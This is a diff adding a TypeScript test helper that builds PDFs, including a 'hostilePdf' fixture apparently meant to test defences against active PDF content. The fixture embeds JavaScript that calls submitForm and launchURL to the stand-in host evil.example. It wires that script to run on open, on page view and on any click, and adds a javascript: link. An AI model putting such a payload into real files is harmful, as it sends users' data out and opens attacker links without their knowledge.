@@ -1,0 +1,77 @@
+import { deflateSync } from 'node:zlib'
+
+interface Made {
+  /** Entries of the document's catalogue: what a program is to do when it opens the file. */
+  readonly catalogue?: string
+  /** Entries of each page. */
+  readonly page?: string
+  /** Operators of each page, instead of those that show its text. */
+  readonly operators?: Buffer
+}
+
+/** A PDF whose pages show these texts, in Helvetica. */
+export const pdfOf = (
+  texts: readonly string[],
+  { catalogue = '', page = '', operators }: Made = {},
+): Buffer => {
+  const contents = texts.map((text) =>
+    deflateSync(
+      operators ?? Buffer.from(`BT /F1 24 Tf 72 720 Td (${text.replace(/[()\\]/g, '\\$&')}) Tj ET`),
+    ),
+  )
+  const numberOf = (at: number) => 4 + at * 2
+  const objects: readonly (readonly [number, Buffer])[] = [
+    [1, Buffer.from(`<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`)],
+    [
+      2,
+      Buffer.from(
+        `<< /Type /Pages /Count ${texts.length} /Kids [${texts.map((_, at) => `${numberOf(at)} 0 R`).join(' ')}] >>`,
+      ),
+    ],
+    [3, Buffer.from('<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>')],
+    ...contents.flatMap((content, at): readonly (readonly [number, Buffer])[] => [
+      [
+        numberOf(at),
+        Buffer.from(
+          `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents ${numberOf(at) + 1} 0 R ${page} >>`,
+        ),
+      ],
+      [
+        numberOf(at) + 1,
+        Buffer.concat([
+          Buffer.from(`<< /Length ${content.length} /Filter /FlateDecode >>\nstream\n`),
+          content,
+          Buffer.from('\nendstream'),
+        ]),
+      ],
+    ]),
+  ]
+  const pieces: Buffer[] = [Buffer.from('%PDF-1.7\n')]
+  const places: number[] = []
+  let at = pieces[0]?.length ?? 0
+  for (const [number, body] of objects) {
+    const piece = Buffer.concat([Buffer.from(`${number} 0 obj\n`), body, Buffer.from('\nendobj\n')])
+    places.push(at)
+    pieces.push(piece)
+    at += piece.length
+  }
+  const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('')
+  pieces.push(
+    Buffer.from(
+      `xref\n0 ${places.length + 1}\n0000000000 65535 f \n${table}trailer\n<< /Size ${places.length + 1} /Root 1 0 R >>\nstartxref\n${at}\n%%EOF\n`,
+    ),
+  )
+  return Buffer.concat(pieces)
+}
+
+const SCRIPT =
+  "app.alert('xss'); this.submitForm('https://evil.example'); app.launchURL('https://evil.example'); xss()"
+
+const ACTION = `<< /S /JavaScript /JS (${SCRIPT.replace(/[()\\]/g, '\\$&')}) >>`
+
+/** A PDF that would run a script when it is opened, when its page is shown, and when it is clicked anywhere. */
+export const hostilePdf = (text: string): Buffer =>
+  pdfOf([text], {
+    catalogue: `/OpenAction ${ACTION} /AA << /WC ${ACTION} /DP ${ACTION} >> /Names << /JavaScript << /Names [(a) ${ACTION}] >> /EmbeddedFiles << /Names [(a.html) << /Type /Filespec /F (a.html) >>] >> >>`,
+    page: `/AA << /O ${ACTION} >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A ${ACTION} >> << /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (javascript:xss\\(\\)) >> >>]`,
+  })
